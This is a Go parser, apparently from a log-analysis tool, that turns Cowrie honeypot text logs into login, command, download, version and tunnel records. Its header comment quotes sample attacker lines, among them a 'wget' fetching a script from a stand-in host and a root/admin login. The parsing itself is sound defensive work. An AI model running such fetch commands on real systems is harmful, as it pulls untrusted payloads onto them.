package parse

import (
	"bytes"

	"github.com/longtail/longtail/engine/record"
)

// cowrie-text is the text log of the Cowrie honeypot (cowrie.log, twistd's
// log), one message a line after its time and the Twisted "system" in
// brackets, whose last part is the attacker's address:
//
//	2018-06-16T00:00:16.208239+0000 [SSHService 'ssh-userauth' on HoneyPotSSHTransport,13943,89.39.105.84] login attempt [root/admin] succeeded
//	2018-06-16T00:00:15.962265+0000 [HoneyPotSSHTransport,13943,89.39.105.84] Remote SSH version: SSH-2.0-paramiko_2.1.1
//	2018-06-16T00:00:36.032335+0000 [SSHService 'ssh-connection' on HoneyPotSSHTransport,13943,89.39.105.84] direct-tcp connection request to 193.252.22.84:587 from 127.0.0.1:22
//	... [HoneyPotSSHTransport,5,192.168.56.103] CMD: wget http://x.example/a.sh
//	... [HTTP11ClientProtocol,client] Downloaded URL (http://x.example/a.sh) with SHA-256 dc4c… to var/lib/cowrie/downloads/dc4c…
//
// or the same lines wrapped by syslog ("Dec  8 06:28:43 host cowrie[2806]:
// 2020-12-08T06:28:43+0000 [...] ..."), whose host is then the target.
// Each message Cowrie writes for an event of its JSON log is read into the
// members of that event and made a record by the JSON parser's own code,
// so both logs give the same records: "login attempt [user/password]
// succeeded|failed" (cowrie.login.*), "CMD: " (cowrie.command.input),
// "Downloaded URL" (cowrie.session.file_download), "Remote SSH version:"
// (cowrie.client.version) and "direct-tcp connection request to"
// (cowrie.direct-tcpip.request). Cowrie running on Python 3 wrote some
// values as bytes (b'root'); they are unwrapped.
//
// The other messages (connections opened and lost, key exchange, channel
// bookkeeping) and the tab-led lines that continue a message are passed
// over; only a line that is neither is skipped. A download is written
// from the HTTP client's context, without the attacker's address: it is
// taken from the most recent command of the last few that holds the URL
// (the wget or curl that fetched it), and left empty when none does.

// It is tried after the formats with a signature of their own (sshd's
// syslog among them, which a syslog-wrapped Cowrie log resembles) and
// before the custom and lenient ones; it takes only a log that names
// Cowrie: of the samples, Cowrie's text logs alone
// (TestCowrieTextDetectsNoOtherSample).
func init() {
	register(38, Format{
		Name:   "cowrie-text",
		Kind:   record.KindLogon,
		Detect: detectCowrieText,
		Lines:  func() LineParser { return &cowrieTextParser{} },
	})
}

// detectCowrieText accepts a log whose first line is a Twisted message
// with its time and that names Cowrie (its factories and transports) in
// its head.
func detectCowrieText(head []byte) bool {
	var tp timeParser
	first, named := true, false
	forCompleteLines(head, 50, func(line []byte) bool {
		if len(line) == 0 || line[0] == '\t' {
			return true
		}
		_, stamp, system, msg, ok := cowrieTextSplit(line)
		if ok {
			_, ok = tp.parse(stamp)
		}
		if first && !ok {
			return false
		}
		first = false
		named = ok && (bytes.Contains(system, []byte("Cowrie")) || bytes.Contains(system, []byte("HoneyPot")) ||
			bytes.Contains(msg, []byte("HoneyPot")))
		return !named
	})
	return named
}

// cowrieTextSplit splits a line into its syslog host (when syslog wraps
// it), time, Twisted system and message.
func cowrieTextSplit(line []byte) (host, stamp, system, msg []byte, ok bool) {
	var rest []byte
	// Cowrie's own "STAMP [system] message" is told by its first space
	// before parsing a syslog stamp, which its ISO stamp also is: a plain
	// line is read as fast as before syslog stamps could be ISO.
	if sp := bytes.IndexByte(line, ' '); sp > 0 && bytes.HasPrefix(line[sp+1:], []byte("[")) {
		stamp, rest = line[:sp], line[sp+2:]
	} else {
		if h, inner, ok := cowrieUnwrap(line); ok {
			host, line = h, inner
		}
		if stamp, rest, ok = bytes.Cut(line, []byte(" [")); !ok {
			return nil, nil, nil, nil, false
		}
	}
	if len(stamp) == 0 || stamp[0] < '0' || stamp[0] > '9' {
		return nil, nil, nil, nil, false
	}
	system, msg, ok = bytes.Cut(rest, []byte("] "))
	if !ok {
		// "[-] unauthorized login: " loses its blank at the end of a line
		system, ok = bytes.CutSuffix(rest, []byte("]"))
	}
	return host, stamp, system, msg, ok
}

// cowrieUnwrap returns the host and Cowrie's line of a line syslog
// wrapped: a syslog stamp, then "HOST cowrie[PID]: ".
func cowrieUnwrap(line []byte) (host, inner []byte, ok bool) {
	_, rest, ok := syslogStamp(line)
	sp := bytes.IndexByte(rest, ' ')
	if !ok || sp <= 0 || !bytes.HasPrefix(rest[sp+1:], []byte("cowrie[")) {
		return nil, nil, false
	}
	end := bytes.Index(rest[sp:], []byte("]: "))
	if end < 0 {
		return nil, nil, false
	}
	return rest[:sp], rest[sp+end+3:], true
}

// The Cowrie events the text log's messages stand for.
var (
	cowrieEvLoginSuccess = []byte("cowrie.login.success")
	cowrieEvLoginFailed  = []byte("cowrie.login.failed")
	cowrieEvCommand      = []byte("cowrie.command.input")
	cowrieEvDownload     = []byte("cowrie.session.file_download")
	cowrieEvVersion      = []byte("cowrie.client.version")
	cowrieEvTunnel       = []byte("cowrie.direct-tcpip.request")
)

// The message prefixes of those events.
var (
	cowrieMsgLogin    = []byte("login attempt [")
	cowrieMsgCommand  = []byte("CMD: ")
	cowrieMsgDownload = []byte("Downloaded URL (")
	cowrieMsgVersion  = []byte("Remote SSH version: ")
	cowrieMsgTunnel   = []byte("direct-tcp connection request to ")
)

// cowrieRecent is how many commands are kept to find whose a download was.
const cowrieRecent = 16

// cowrieCommand is a command entered and the address it came from.
type cowrieCommand struct{ input, src []byte }

// cowrieTextParser reads a message into the JSON parser's members (p.f)
// and has its emit make the record.
type cowrieTextParser struct {
	cowrieParser
	recent [cowrieRecent]cowrieCommand // a ring of the last commands
	next   int                         // where the next command goes in recent
}

func (p *cowrieTextParser) Line(line []byte, no, off int64, replay bool, out record.Output) {
	if len(line) == 0 || line[0] == '\t' {
		return // a message's continuation
	}
	host, stamp, system, msg, ok := cowrieTextSplit(line)
	if !ok {
		if !replay {
			out.Skip(no, off, "no Cowrie message")
		}
		return
	}
	f := &p.f
	*f = cowrieFields{timestamp: stamp, system: system, sensor: host, srcIP: cowrieSource(system)}
	if !p.message(msg) {
		return
	}
	if bytes.Equal(f.eventID, cowrieEvCommand) && len(f.srcIP) > 0 {
		p.remember(f.input, f.srcIP) // also on replay: a later download may need it
	}
	if !replay {
		p.emit(no, off, out)
	}
}

// message reads msg into p.f's event and its members; false when it
// stands for no event a record takes.
func (p *cowrieTextParser) message(msg []byte) bool {
	f := &p.f
	switch {
	case bytes.HasPrefix(msg, cowrieMsgLogin):
		return p.login(msg[len(cowrieMsgLogin):])
	case bytes.HasPrefix(msg, cowrieMsgCommand):
		f.eventID, f.input = cowrieEvCommand, msg[len(cowrieMsgCommand):]
	case bytes.HasPrefix(msg, cowrieMsgVersion):
		f.eventID, f.version = cowrieEvVersion, unwrapBytes(msg[len(cowrieMsgVersion):])
	case bytes.HasPrefix(msg, cowrieMsgTunnel):
		// "to 193.252.22.84:587 from 127.0.0.1:22": the host may be IPv6
		dst, _, _ := bytes.Cut(msg[len(cowrieMsgTunnel):], []byte(" from "))
		i := bytes.LastIndexByte(dst, ':')
		if i < 0 {
			return false
		}
		f.eventID, f.dstIP, f.dstPort = cowrieEvTunnel, dst[:i], dst[i+1:]
	case bytes.HasPrefix(msg, cowrieMsgDownload):
		// "(URL) with SHA-256 HASH to FILE"; the URL may hold ") with "
		rest := msg[len(cowrieMsgDownload):]
		i := bytes.LastIndex(rest, []byte(") with SHA-256 "))
		if i < 0 {
			return false
		}
		hash, _, _ := bytes.Cut(rest[i+len(") with SHA-256 "):], []byte(" "))
		f.eventID, f.url, f.shasum = cowrieEvDownload, unwrapBytes(rest[:i]), hash
		if len(f.srcIP) == 0 {
			f.srcIP = p.fetcher(f.url)
		}
	default:
		return false
	}
	return true
}

// login reads "user/password] succeeded" or "... failed". The user name
// ends at the first slash: a password holds one more often than a name.
func (p *cowrieTextParser) login(rest []byte) bool {
	f := &p.f
	switch {
	case bytes.HasSuffix(rest, []byte("] succeeded")):
		f.eventID, rest = cowrieEvLoginSuccess, rest[:len(rest)-len("] succeeded")]
	case bytes.HasSuffix(rest, []byte("] failed")):
		f.eventID, rest = cowrieEvLoginFailed, rest[:len(rest)-len("] failed")]
	default:
		return false
	}
	user, pass, ok := bytes.Cut(rest, []byte("/"))
	if b, found := bytes.CutPrefix(rest, []byte("b'")); found {
		// Python 3's bytes: [b'root'/b'admin']
		if u, p, found := bytes.Cut(b, []byte("'/b'")); found {
			user, pass = u, bytes.TrimSuffix(p, []byte("'"))
		}
	}
	if !ok {
		return false
	}
	f.username, f.password = user, pass
	return true
}

// cowrieSource is the address that ends a Twisted system
// ("HoneyPotSSHTransport,13943,89.39.105.84"); nil when the system names
// none ("-", "HTTP11ClientProtocol,client").
func cowrieSource(system []byte) []byte {
	i := bytes.LastIndexByte(system, ',')
	if i < 0 {
		return nil
	}
	ip := system[i+1:]
	dot := false
	for _, c := range ip {
		switch {
		case c == '.' || c == ':':
			dot = true
		case '0' <= c && c <= '9' || 'a' <= c && c <= 'f' || 'A' <= c && c <= 'F':
		default:
			return nil
		}
	}
	if !dot {
		return nil
	}
	return ip
}

// unwrapBytes takes the value out of Python's b'...'.
func unwrapBytes(v []byte) []byte {
	if len(v) >= 3 && v[0] == 'b' && v[1] == '\'' && v[len(v)-1] == '\'' {
		return v[2 : len(v)-1]
	}
	return v
}

// remember keeps a command and its source in the ring of recent ones.
func (p *cowrieTextParser) remember(input, src []byte) {
	c := &p.recent[p.next]
	c.input, c.src = append(c.input[:0], input...), append(c.src[:0], src...)
	p.next = (p.next + 1) % cowrieRecent
}

// fetcher is the source of the most recent command that holds url,
// without its scheme (Cowrie adds "http://" to "wget host/x"); nil when
// none does.
func (p *cowrieTextParser) fetcher(url []byte) []byte {
	if i := bytes.Index(url, []byte("://")); i >= 0 {
		url = url[i+3:]
	}
	if len(url) == 0 {
		return nil
	}
	for k := 1; k <= cowrieRecent; k++ {
		c := &p.recent[(p.next-k+cowrieRecent)%cowrieRecent]
		if bytes.Contains(c.input, url) {
			return c.src
		}
	}
	return nil
}
